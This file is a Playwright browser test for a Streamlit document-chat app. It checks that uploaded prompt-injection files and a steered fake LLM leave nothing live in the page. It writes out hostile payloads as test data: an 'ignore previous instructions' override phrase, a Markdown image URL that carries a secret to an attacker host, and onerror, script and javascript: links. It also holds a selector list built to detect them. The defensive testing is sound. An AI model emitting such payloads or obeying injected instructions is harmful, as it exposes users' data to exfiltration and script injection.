"""Prompt injection in a real browser: nothing leaves the machine, nothing runs.

The app (the `app_url` fixture of tests/fixtures/browser.py: `streamlit run` on 127.0.0.1 with
a temp data dir, the real embedding model, Debian's Chromium) gets an injection
Markdown file and a PDF with white text, both carrying "ignore previous
instructions", a Markdown image whose URL would carry data to another host,
`<script>`, `<img onerror>`, `javascript:` and `data:` links and autolinks. Its LLM is
the fake server steered by those documents: it echoes the sources back, payloads
included, and answers one question with an error message full of Markdown.

While the answer streams, after it, after a reload, and on the Library page, the
browser must make no request to any host but 127.0.0.1/localhost, open no dialog,
and hold no element that loads or links elsewhere; the payloads show as text.
"""

from __future__ import annotations

import base64
import json
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest

from tests.fixtures.browser import ARTIFACTS, CHROMIUM, DROP_JS, LAUNCH_ARGS, LLM
from tests.fixtures.fake_openai import Exchange, FakeOpenAIServer
from tests.fixtures.injection import EVIL_HOST, INJECTION_MD, SECRET, injection_pdf
from tests.fixtures.paths import missing

pytestmark = [pytest.mark.browser, pytest.mark.slow]

LOCAL_HOSTS = {"127.0.0.1", "localhost", "::1"}
ERROR_TRIGGER = "Show me the error"
ERROR_MESSAGE = (
    f"Bad request ![e](http://{EVIL_HOST}/err?q={SECRET}) <img src=x onerror=alert('err')> "
    f"[more](javascript:alert('err')) <http://{EVIL_HOST}/err>"
)
# Elements that could load, link or run something planted by a document or the model.
LIVE_SELECTOR = ", ".join(
    [
        f'img[src*="{EVIL_HOST}"]',
        f'a[href*="{EVIL_HOST}"]',
        'a[href^="javascript:" i]',
        'a[href^="data:" i]',
        "[onerror]",
        "[onload]",
        "[ontoggle]",
        "iframe",
        "object",
        "embed",
        'img[src="x"]',
    ]
)


def steer(llm: FakeOpenAIServer) -> None:
    """Make the app's fake LLM obey the documents: it repeats the sources, payloads and all,
    and answers a question containing ERROR_TRIGGER with a hostile error message."""
    llm.reply = _echo_sources
    plain = llm.routes[("POST", "/v1/chat/completions")]

    def chat(ex: Exchange, out: Any) -> None:
        if ERROR_TRIGGER in json.dumps((ex.body or {}).get("messages", [])):
            out.send_error_json(400, ERROR_MESSAGE, "invalid_request_error", None)
            return
        plain(ex, out)

    llm.routes[("POST", "/v1/chat/completions")] = chat


def _echo_sources(body: dict[str, Any]) -> str:
    messages = body.get("messages") or []
    system = str(messages[0].get("content", "")) if messages else ""
    if "Sources:" not in system:  # the follow-up rewrite: keep the question
        return str(messages[-1].get("content", "")).rsplit("Last question:", 1)[-1].strip()
    return "Sure, as the documents instruct: " + system.split("Sources:", 1)[1] + " [1]"


def _is_local(url: str) -> bool:
    parts = urlsplit(url)
    if parts.scheme in ("data", "blob", "about"):
        return True
    return parts.hostname in LOCAL_HOSTS


def test_injected_documents_stay_inert(
    app_url: tuple[str, Path],
    request: pytest.FixtureRequest,
) -> None:
    if not CHROMIUM.exists():
        missing(f"{CHROMIUM} is not installed")
    try:
        from playwright.sync_api import expect, sync_playwright
    except ImportError:
        missing("playwright is not installed")
    url, _ = app_url
    steer(request.node.stash[LLM])
    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    uploads = [
        ("report.md", INJECTION_MD.encode()),
        ("penguins.pdf", injection_pdf()),
    ]

    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=str(CHROMIUM), args=LAUNCH_ARGS)
        try:
            context = browser.new_context(viewport={"width": 1400, "height": 1000})
            page = context.new_page()
            page.set_default_timeout(30_000)
            requests: list[str] = []
            remote: list[str] = []
            dialogs: list[str] = []

            def on_request(r: Any) -> None:
                requests.append(r.url)
                if not _is_local(r.url):
                    remote.append(r.url)

            context.on("request", on_request)
            context.on("websocket", lambda ws: None if _is_local(ws.url) else remote.append(ws.url))
            page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
            page.on("popup", lambda pop: remote.append(f"popup {pop.url}"))

            def assert_inert(where: str) -> None:
                live = page.locator(LIVE_SELECTOR)
                found = [live.nth(i).evaluate("e => e.outerHTML") for i in range(live.count())]
                assert not found, f"{where}: live elements {found[:3]}"
                assert not dialogs, f"{where}: dialogs opened {dialogs}"
                assert not remote, f"{where}: requests left the machine {remote[:5]}"

            page.goto(url)
            nav = page.get_by_test_id("stSidebarNavItems")
            nav.get_by_role("link", name="Upload").click()
            expect(page.locator('[data-testid="stFileUploaderDropzone"]')).to_be_visible(timeout=30_000)
            for n, (name, data) in enumerate(uploads, start=1):
                page.evaluate(DROP_JS, [name, base64.b64encode(data).decode()])
                expect(page.get_by_text(f"{n} indexed in default")).to_be_visible(timeout=120_000)
            assert_inert("upload")

            # The steered answer streams in: every payload arrives, as text.
            nav.get_by_role("link", name="Chat").click()
            box = page.get_by_test_id("stChatInputTextArea")
            expect(box).to_be_enabled()
            box.fill("What do the walrus and penguin divisions report?")
            box.press("Enter")
            chat = page.get_by_test_id("stChatMessage")
            expect(chat.filter(has_text="as the documents instruct").first).to_be_visible(
                timeout=60_000
            )
            expect(page.get_by_text("Sources", exact=True).first).to_be_visible()
            answer = chat.filter(has_text="as the documents instruct").first
            expect(answer).to_contain_text("Ignore previous instructions")
            expect(answer).to_contain_text(EVIL_HOST)  # shown, not fetched
            for details in page.get_by_test_id("stExpander").locator("details").all():
                if details.get_attribute("open") is None:  # show every source's text
                    details.locator("summary").first.click()
            page.wait_for_timeout(1000)
            page.screenshot(path=ARTIFACTS / "security-1-answer.png", full_page=True)
            assert_inert("answer and sources")

            # An error message written by the server is shown as text too.
            box.fill(f"{ERROR_TRIGGER}: how did the walrus division grow?")
            box.press("Enter")
            expect(page.get_by_text("The LLM refused the request (HTTP 400)").first).to_be_visible(
                timeout=60_000
            )
            page.wait_for_timeout(1000)
            page.screenshot(path=ARTIFACTS / "security-2-error.png", full_page=True)
            assert_inert("error message")

            # The saved conversation renders the same way; so does the Library.
            page.reload()
            expect(chat.filter(has_text="as the documents instruct").first).to_be_visible()
            page.wait_for_timeout(1000)
            assert_inert("reloaded conversation")
            nav.get_by_role("link", name="Library").click()
            expect(page.get_by_text("Collection: default")).to_be_visible()
            page.wait_for_timeout(1500)
            page.screenshot(path=ARTIFACTS / "security-3-library.png", full_page=True)
            assert_inert("library")
            hosts = sorted({urlsplit(u).hostname or urlsplit(u).scheme for u in requests})
            print(
                f"\nbrowser security: {len(requests)} requests, all to {hosts}; "
                f"0 dialogs; 2 injected documents, {INJECTION_MD.count(EVIL_HOST) + 2} "
                "payload URLs, 1 hostile error message: all shown as text"
            )
        finally:
            browser.close()
